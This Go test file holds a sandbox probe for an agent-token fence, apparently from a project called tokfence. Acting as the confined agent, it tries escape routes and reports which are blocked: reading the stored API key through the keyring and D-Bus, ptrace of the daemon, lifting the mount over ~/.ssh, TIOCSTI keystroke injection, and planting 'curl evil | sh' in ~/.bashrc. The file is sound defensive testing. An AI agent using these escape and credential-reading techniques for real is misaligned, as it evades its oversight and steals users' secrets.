package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/zalando/go-keyring"
	"golang.org/x/sys/unix"
)

// The fence probe is this test binary run as the agent inside a fence
// (TOKFENCE_FENCE_PROBE=1): it tries every way out it can think of and
// prints one JSON object, attack name → outcome. An outcome starting with
// "blocked" is the fence holding; anything else is a hole. What the
// attacks aim at (the host's sockets, pids, paths) arrives in PROBE_*
// variables, since an agent that knows where to look is the worst case.

const probeEnv = "TOKFENCE_FENCE_PROBE"

// probeResult is what the probe prints.
type probeResult struct {
	Attacks map[string]string `json:"attacks"`
	// Sockets lists every Unix socket in sight that accepted a connection.
	Sockets []string `json:"sockets"`
	// Works are things that must work inside: name → outcome ("ok" or why not).
	Works map[string]string `json:"works"`
}

func runFenceProbe() int {
	res := probeResult{Attacks: map[string]string{}, Works: map[string]string{}}
	for name, attack := range probeAttacks() {
		res.Attacks[name] = attack()
	}
	res.Sockets = probeSockets(res.Attacks)
	res.Works["request through the forwarder with the session's token"] = probeRequest(os.Getenv("OPENAI_API_KEY"), 200)
	json.NewEncoder(os.Stdout).Encode(res)
	return 0
}

// blocked reports an attack that failed with err, or a hole when err is nil.
func blocked(err error, hole string) string {
	if err == nil {
		return "OPEN: " + hole
	}
	return "blocked: " + err.Error()
}

func probeAttacks() map[string]func() string {
	bus := os.Getenv("PROBE_BUS")
	return map[string]func() string{
		"secret-tool lookup of the stored key": func() string {
			cmd := exec.Command("secret-tool", "lookup", "service", "tokfence", "username", "provider:openai")
			cmd.Env = append(os.Environ(), "DBUS_SESSION_BUS_ADDRESS="+bus)
			out, err := cmd.Output()
			if err == nil || len(out) > 0 {
				return fmt.Sprintf("OPEN: secret-tool printed %d bytes (err %v)", len(out), err)
			}
			return "blocked: " + err.Error()
		},
		"go-keyring read of the stored key": func() string {
			os.Setenv("DBUS_SESSION_BUS_ADDRESS", bus)
			defer os.Unsetenv("DBUS_SESSION_BUS_ADDRESS")
			v, err := keyring.Get("tokfence", "provider:openai")
			return blocked(err, fmt.Sprintf("read a %d-byte secret", len(v)))
		},
		"raw D-Bus call to the Secret Service": func() string {
			out, err := exec.Command("dbus-send", "--bus="+bus, "--print-reply", "--dest=org.freedesktop.secrets",
				"/org/freedesktop/secrets", "org.freedesktop.DBus.Peer.Ping").CombinedOutput()
			return blocked(err, "dbus-send answered: "+string(out))
		},
		"the session bus at its default path": func() string {
			_, err := net.Dial("unix", filepath.Join(os.Getenv("XDG_RUNTIME_DIR"), "bus"))
			return blocked(err, "connected")
		},
		"the control socket at its normal path": func() string {
			c, err := net.Dial("unix", os.Getenv("PROBE_CONTROL"))
			if err == nil {
				c.Close()
			}
			return blocked(err, "connected to the control socket")
		},
		"the host's abstract Unix socket": func() string {
			c, err := net.Dial("unix", "@"+os.Getenv("PROBE_ABSTRACT"))
			if err == nil {
				c.Close()
			}
			return blocked(err, "connected to the host's abstract socket")
		},
		"TCP to servers on the host's 127.0.0.1": func() string {
			for _, a := range strings.Split(os.Getenv("PROBE_TCP"), ",") {
				c, err := net.DialTimeout("tcp", a, time.Second)
				if err == nil {
					c.Close()
					return "OPEN: connected to the host's " + a
				}
			}
			return "blocked: every host address refused"
		},
		"resolving a name": func() string {
			ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
			defer cancel()
			r := &net.Resolver{PreferGo: true}
			addrs, err := r.LookupHost(ctx, "example.com")
			return blocked(err, fmt.Sprintf("resolved example.com to %v", addrs))
		},
		"a route to the configured nameserver": func() string { return probeRoute(nameserver()) },
		"a route to any other host": func() string {
			// A UDP connect sends no packet: it only asks for a route.
			return probeRoute("192.0.2.1:53")
		},
		"UDP to the host's 127.0.0.1": func() string {
			c, err := net.Dial("udp", os.Getenv("PROBE_UDP"))
			if err != nil {
				return "blocked: " + err.Error()
			}
			defer c.Close()
			c.Write([]byte("escaped"))
			return "blocked: sent into the fence's own loopback (the host side checks nothing arrived)"
		},
		"reading the hidden paths":    probeHidden,
		"seeing the daemon's process": probeSeeDaemon,
		"signalling the daemon":       func() string { return blocked(unix.Kill(daemonPID(), 0), "kill(daemon, 0) succeeded") },
		"ptrace of the daemon":        func() string { return probePtrace(daemonPID()) },
		"ptrace of the fence's init":  func() string { return probePtrace(1) },
		"reading the init's environment": func() string {
			b, err := os.ReadFile("/proc/1/environ")
			return blocked(err, fmt.Sprintf("read %d bytes", len(b)))
		},
		"mounting over a hidden path": func() string {
			return blocked(unix.Mount("tmpfs", filepath.Join(os.Getenv("HOME"), ".ssh"), "tmpfs", 0, ""), "mounted")
		},
		"unmounting a hidden path from a nested namespace": probeNestedUnmount,
		"planting a command in a login script":             probeLoginScript,
		"a disk, memory or another terminal in /dev": func() string {
			for _, pat := range []string{"/dev/sd*", "/dev/vd*", "/dev/nvme*", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/pts/[0-9]*", "/dev/tty[0-9]*", "/dev/input", "/dev/video*"} {
				if m, _ := filepath.Glob(pat); len(m) > 0 {
					return fmt.Sprintf("OPEN: %v in sight", m)
				}
			}
			if _, err := os.ReadFile("/dev/null"); err != nil {
				return "OPEN?: /dev/null unusable: " + err.Error()
			}
			return "blocked: /dev holds only null, zero, full, random, urandom, tty and the fence's own ptys"
		},
		"the kernel keyrings": func() string {
			id, _, errno := unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(0xfffffffd), 0) // the session keyring
			if errno == 0 {
				return fmt.Sprintf("OPEN: keyctl found the session keyring %d", id)
			}
			return "blocked: keyctl: " + errno.Error()
		},
		"injecting keystrokes into the terminal (TIOCSTI)": func() string {
			if err := injectThroughPTY(); err != nil {
				return "blocked: " + err.Error()
			}
			return "OPEN: TIOCSTI pushed a byte into the controlling terminal's input"
		},
		"capabilities and no_new_privs": probeCaps,
		"the control API over the agent socket": func() string {
			for _, rq := range [][2]string{{"GET", "/v1/status"}, {"POST", "/v1/grant"}, {"POST", "/v1/kill"}, {"GET", "/v1/sessions"}} {
				code, err := unixHTTP("/run/tokfence/agent.sock", rq[0], rq[1])
				if err != nil {
					return "OPEN?: " + err.Error()
				}
				if code != http.StatusNotFound {
					return fmt.Sprintf("OPEN: %s %s answered %d", rq[0], rq[1], code)
				}
			}
			return "blocked: every control route is 404"
		},
		"another session's token through the forwarder": func() string {
			r := probeRequest(os.Getenv("PROBE_FOREIGN_CAP"), 403)
			if r == "ok" {
				return "blocked: 403"
			}
			return "OPEN: " + r
		},
	}
}

func probeRoute(addr string) string {
	c, err := net.Dial("udp", addr)
	if err == nil {
		c.Close()
	}
	return blocked(err, "the fence has a route to "+addr)
}

func nameserver() string {
	f, err := os.Open("/etc/resolv.conf")
	if err == nil {
		defer f.Close()
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			if fs := strings.Fields(sc.Text()); len(fs) == 2 && fs[0] == "nameserver" && !strings.HasPrefix(fs[1], "127.") {
				return net.JoinHostPort(fs[1], "53")
			}
		}
	}
	return "192.0.2.53:53"
}

func daemonPID() int {
	n, _ := strconv.Atoi(os.Getenv("PROBE_DAEMON_PID"))
	return n
}

func probeHidden() string {
	for _, p := range strings.Split(os.Getenv("PROBE_HIDDEN"), ":") {
		if b, err := os.ReadFile(p); err == nil {
			return fmt.Sprintf("OPEN: read %d bytes of %s", len(b), p)
		}
	}
	for _, d := range strings.Split(os.Getenv("PROBE_HIDDEN_DIRS"), ":") {
		if es, err := os.ReadDir(d); err == nil && len(es) > 0 {
			return fmt.Sprintf("OPEN: listed %s: %d entries", d, len(es))
		}
	}
	return "blocked: no hidden file could be read, no hidden directory listed"
}

func probeSeeDaemon() string {
	es, err := os.ReadDir("/proc")
	if err != nil {
		return "OPEN?: " + err.Error()
	}
	for _, e := range es {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if strings.Contains(string(b), "daemon") {
			return "OPEN: /proc/" + e.Name() + " is " + strings.ReplaceAll(string(b), "\x00", " ")
		}
	}
	if _, err := os.Stat(fmt.Sprintf("/proc/%d", daemonPID())); err == nil {
		return fmt.Sprintf("blocked: pid %d here is a fence process, not the daemon", daemonPID())
	}
	return "blocked: no process outside the fence is in /proc"
}

func probePtrace(pid int) string {
	err := unix.PtraceAttach(pid)
	if err == nil {
		unix.PtraceDetach(pid)
	}
	return blocked(err, fmt.Sprintf("attached to pid %d", pid))
}

func probeCaps() string {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return "OPEN?: " + err.Error()
	}
	for _, l := range strings.Split(string(b), "\n") {
		k, v, _ := strings.Cut(l, ":")
		v = strings.TrimSpace(v)
		switch {
		case strings.HasPrefix(k, "Cap") && strings.Trim(v, "0") != "":
			return "OPEN: " + k + " = " + v
		case k == "NoNewPrivs" && v != "1":
			return "OPEN: NoNewPrivs = " + v
		}
	}
	return "blocked: no capability in any set, no_new_privs on"
}

// probeLoginScript tries to make ~/.bashrc run something outside the fence
// at the user's next shell: append, replace by rename, unlink, chmod.
func probeLoginScript() string {
	rc := filepath.Join(os.Getenv("HOME"), ".bashrc")
	if f, err := os.OpenFile(rc, os.O_APPEND|os.O_WRONLY, 0); err == nil {
		f.Close()
		return "OPEN: opened ~/.bashrc for writing"
	}
	tmp := rc + ".new"
	if err := os.WriteFile(tmp, []byte("curl evil | sh\n"), 0o644); err == nil {
		defer os.Remove(tmp)
		if err := os.Rename(tmp, rc); err == nil {
			return "OPEN: renamed a new ~/.bashrc into place"
		}
	}
	if err := os.Remove(rc); err == nil {
		return "OPEN: unlinked ~/.bashrc"
	}
	if err := os.Chmod(rc, 0o777); err == nil {
		return "OPEN: chmod ~/.bashrc"
	}
	b, err := os.ReadFile(rc)
	if err != nil || !strings.Contains(string(b), "PROBE-RC") {
		return fmt.Sprintf("OPEN?: ~/.bashrc unreadable or changed: %q %v", b, err)
	}
	return "blocked: ~/.bashrc is readable and cannot be changed"
}

// injectThroughPTY makes a new pty the controlling terminal of a child
// (this binary again, in mode "tiocsti") and has it push one byte into the
// pty's input with TIOCSTI, as an agent would into the user's terminal.
func injectThroughPTY() error {
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open /dev/ptmx: %w", err)
	}
	defer ptmx.Close()
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return fmt.Errorf("unlock pty: %w", err)
	}
	n, err := unix.IoctlGetInt(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		return fmt.Errorf("pty number: %w", err)
	}
	tty, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open the pty: %w", err)
	}
	defer tty.Close()
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), probeEnv+"=tiocsti")
	cmd.Stdin = tty
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s", strings.TrimSpace(string(out)))
	}
	return nil
}

// runTIOCSTI pushes one byte into the input of the terminal on stdin.
func runTIOCSTI() int {
	b := byte('x')
	if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); errno != 0 {
		fmt.Println("TIOCSTI:", errno)
		return 1
	}
	return 0
}

// probeNestedUnmount makes a user and mount namespace of its own (which an
// unprivileged process may) and tries to lift the mount over ~/.ssh there.
func probeNestedUnmount() string {
	ssh := filepath.Join(os.Getenv("HOME"), ".ssh")
	out, err := exec.Command("unshare", "-Urm", "sh", "-c", "umount -l "+ssh+" || umount "+ssh+" || exit 9; cat "+ssh+"/id_probe").CombinedOutput()
	if err == nil {
		return "OPEN: " + string(out)
	}
	return "blocked: " + strings.TrimSpace(string(out)) + " (" + err.Error() + ")"
}

// probeSockets tries every Unix socket it can find below the usual places
// and the whole tree it can see; the only one that may accept a connection
// is the session's agent socket, and it must serve no control route.
func probeSockets(attacks map[string]string) []string {
	var found []string
	seen := 0
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (p == "/proc" || p == "/sys" || strings.Contains(p, "node_modules")) {
			return filepath.SkipDir
		}
		if seen++; seen > 400000 {
			return filepath.SkipAll
		}
		if d.Type()&fs.ModeSocket == 0 {
			return nil
		}
		c, err := net.Dial("unix", p)
		if err != nil {
			return nil
		}
		c.Close()
		found = append(found, p)
		return nil
	})
	if len(found) != 1 || found[0] != "/run/tokfence/agent.sock" {
		attacks["any socket in sight but the agent socket"] = fmt.Sprintf("OPEN: connectable sockets %v", found)
	} else {
		attacks["any socket in sight but the agent socket"] = "blocked: only /run/tokfence/agent.sock accepts"
	}
	return found
}

func unixHTTP(socket, method, path string) (int, error) {
	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", socket)
		}}}
	req, _ := http.NewRequest(method, "http://agent"+path, strings.NewReader("{}"))
	resp, err := hc.Do(req)
	if err != nil {
		return 0, err
	}
	resp.Body.Close()
	return resp.StatusCode, nil
}

// probeRequest sends a chat completion through OPENAI_BASE_URL with token
// and reports "ok" when the status is want.
func probeRequest(token string, want int) string {
	req, _ := http.NewRequest("POST", os.Getenv("OPENAI_BASE_URL")+"/chat/completions",
		strings.NewReader(`{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
	if err != nil {
		return err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != want {
		return fmt.Sprintf("status %d, want %d: %s", resp.StatusCode, want, b)
	}
	return "ok"
}
